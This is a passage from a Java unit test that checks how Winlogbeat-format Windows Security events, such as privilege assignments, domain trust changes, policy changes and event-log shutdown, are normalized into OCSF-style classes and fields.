                 "host":{"name":"dc02"},"event":{"kind":"event","code":"%d"},
                 "winlog":{"channel":"Security","event_id":%d,"computer_name":"dc02.example.com",
                 "provider_name":"Microsoft-Windows-Security-Auditing","api":"wineventlog","event_data":%s}}""".formatted(eventId, eventId, eventData);
    }

    private static final String SUBJECT = "\"SubjectUserSid\":\"S-1-5-21-4000000001-4000000002-4000000003-1104\","
            + "\"SubjectUserName\":\"opsadmin\",\"SubjectDomainName\":\"EXAMPLE\",\"SubjectLogonId\":\"0x5d21f\"";

    @Test
    void userRightsTrustsDomainPoliciesAndTheLogServiceAreNotBaseEventsInWinlogbeatsShape() throws Exception {
        // a user right assigned (4704) and removed (4705): User Access Management
        JsonNode assigned = normalize(
                winlogbeat(
                        4704,
                        "{" + SUBJECT
                                + ",\"TargetSid\":\"S-1-5-21-4000000001-4000000002-4000000003-1311\",\"PrivilegeList\":\"SeDebugPrivilege\"}"));
        assertClass(assigned, 3005, 1, "Assign Privileges");
        assertThat(assigned.at("/user/uid").asText()).isEqualTo("S-1-5-21-4000000001-4000000002-4000000003-1311");
        assertThat(assigned.get("privileges").toString()).isEqualTo("[\"SeDebugPrivilege\"]");
        assertThat(assigned.at("/actor/user/name").asText()).isEqualTo("opsadmin");
        assertThat(assigned.get("time").asLong())
                .isEqualTo(Instant.parse("2026-02-28T21:14:03.118Z").toEpochMilli());
        assertThat(assigned.at("/device/hostname").asText()).isEqualTo("dc02.example.com");
        JsonNode removed = normalize(
                winlogbeat(
                        4705,
                        "{" + SUBJECT
                                + ",\"TargetSid\":\"S-1-5-32-551\",\"PrivilegeList\":\"SeBackupPrivilege SeRestorePrivilege\"}"));
        assertClass(removed, 3005, 2, "Revoke Privileges");
        assertThat(removed.get("privileges").toString()).isEqualTo("[\"SeBackupPrivilege\",\"SeRestorePrivilege\"]");

        // a logon right granted (4717) and removed (4718)
        JsonNode granted = normalize(
                winlogbeat(
                        4717,
                        "{" + SUBJECT
                                + ",\"TargetSid\":\"S-1-5-21-4000000001-4000000002-4000000003-1311\",\"AccessGranted\":\"SeRemoteInteractiveLogonRight\"}"));
        assertClass(granted, 3005, 1, "Assign Privileges");
        assertThat(granted.get("privileges").toString()).isEqualTo("[\"SeRemoteInteractiveLogonRight\"]");
        JsonNode revoked = normalize(winlogbeat(
                4718,
                "{" + SUBJECT + ",\"TargetSid\":\"S-1-5-32-546\",\"AccessRemoved\":\"SeDenyNetworkLogonRight\"}"));
        assertClass(revoked, 3005, 2, "Revoke Privileges");
        assertThat(revoked.at("/user/uid").asText()).isEqualTo("S-1-5-32-546");

        // a domain trust created, removed and modified
        String trust =
                ",\"DomainName\":\"partner.example.net\",\"DomainSid\":\"S-1-5-21-7000000001-7000000002-7000000003\"";
        JsonNode created = normalize(
                winlogbeat(
                        4706,
                        "{" + SUBJECT + trust
                                + ",\"TdoType\":\"2\",\"TdoDirection\":\"3\",\"TdoAttributes\":\"8\",\"SidFilteringEnabled\":\"%%1796\"}"));
        assertClass(created, 3004, 1, "Create");
        assertThat(created.at("/entity/name").asText()).isEqualTo("partner.example.net");
        assertThat(created.at("/entity/uid").asText()).isEqualTo("S-1-5-21-7000000001-7000000002-7000000003");
        assertThat(created.at("/entity/type").asText()).isEqualTo("Domain trust");
        assertThat(created.at("/actor/user/name").asText()).isEqualTo("opsadmin");
        assertClass(normalize(winlogbeat(4707, "{" + SUBJECT + trust + "}")), 3004, 4, "Delete");
        assertClass(normalize(winlogbeat(4716, "{" + SUBJECT + trust + ",\"TdoDirection\":\"2\"}")), 3004, 3, "Update");

        // the domain's password policy and Kerberos policy changed
        JsonNode policy = normalize(winlogbeat(
                4739,
                "{" + SUBJECT
                        + ",\"DomainPolicyChanged\":\"Password Policy\",\"DomainName\":\"EXAMPLE\","
                        + "\"DomainSid\":\"S-1-5-21-4000000001-4000000002-4000000003\",\"MinPasswordLength\":\"3\"}"));
        assertClass(policy, 3004, 3, "Update");
        assertThat(policy.at("/entity/name").asText()).isEqualTo("EXAMPLE");
        assertThat(policy.at("/entity/type").asText()).isEqualTo("Domain policy");
        assertThat(policy.get("comment").asText()).isEqualTo("Password Policy");
        JsonNode kerberos = normalize(
                winlogbeat(
                        4713,
                        "{" + SUBJECT
                                + ",\"KerberosPolicyChange\":\"KerMaxT: 0x861c46800 (600 minutes) -> 0xdf8475800 (1000 minutes)\"}"));
        assertClass(kerberos, 3004, 3, "Update");
        assertThat(kerberos.at("/entity/data").toString()).contains("1000 minutes");

        // an account probed for a blank password
        JsonNode blank = normalize(
                winlogbeat(
                        4797,
                        "{" + SUBJECT
                                + ",\"Workstation\":\"WKS-114\",\"TargetUserName\":\"Guest\",\"TargetDomainName\":\"WKS-114\"}"));
        assertClass(blank, 3004, 2, "Read");
        assertThat(blank.at("/entity/user/name").asText()).isEqualTo("Guest");
        assertThat(blank.at("/actor/user/name").asText()).isEqualTo("opsadmin");

        // the event logging service shut down, the log full, the log archived (Winlogbeat's user_data)
        JsonNode shutdown = normalize("""
                {"@timestamp":"2026-02-28T21:15:40.002Z","winlog":{"channel":"Security","event_id":1100,
                 "computer_name":"dc02.example.com","provider_name":"Microsoft-Windows-Eventlog",
                 "user_data":{"xml_name":"ServiceShutdown"}}}""");
        assertClass(shutdown, 1008, 7, "Stop");
        assertThat(shutdown.get("log_name").asText()).isEqualTo("Security");
        assertClass(normalize("""
                {"@timestamp":"2026-02-28T21:15:40.002Z","winlog":{"channel":"Security","event_id":1104,
                 "computer_name":"dc02.example.com","provider_name":"Microsoft-Windows-Eventlog"}}"""), 1008, 99, "Other");
        JsonNode archived = normalize("""
                {"@timestamp":"2026-02-28T21:15:40.002Z","winlog":{"channel":"Security","event_id":1105,
                 "computer_name":"dc02.example.com","provider_name":"Microsoft-Windows-Eventlog",
                 "user_data":{"Channel":"Security","BackupPath":"D:\\\\EvtArchive\\\\Archive-Security-2026-02-28-21-15-40-002.evtx"}}}""");
        assertClass(archived, 1008, 4, "Archive");
        assertThat(archived.at("/file/path").asText())
                .isEqualTo("D:\\EvtArchive\\Archive-Security-2026-02-28-21-15-40-002.evtx");

        // neighbours: a handle closed (4658) and CrashOnAuditFail changed (4906) stay Base Events,
        // and a logon in the same shape stays an Authentication with its source address
        assertThat(normalize(
                                winlogbeat(
                                        4658,
                                        "{" + SUBJECT
                                                + ",\"ObjectServer\":\"Security\",\"HandleId\":\"0x2c8\",\"ProcessId\":\"0x26c\"}"))
                        .get("class_uid")
                        .asInt())
                .isZero();
        assertThat(normalize(winlogbeat(4906, "{\"CrashOnAuditFailValue\":\"0\"}"))
                        .get("class_uid")
                        .asInt())
                .isZero();
        JsonNode logon = normalize(winlogbeat(
                4624,
                "{" + SUBJECT
                        + ",\"TargetUserName\":\"rlee\",\"TargetDomainName\":\"EXAMPLE\",\"LogonType\":\"10\","
                        + "\"IpAddress\":\"198.51.100.44\",\"IpPort\":\"51544\",\"WorkstationName\":\"WKS-114\"}"));
        assertClass(logon, 3002, 1, "Logon");
        assertThat(logon.at("/src_endpoint/ip").asText()).isEqualTo("198.51.100.44");
        assertThat(logon.get("logon_type").asText()).isEqualTo("Remote Interactive");
    }
}
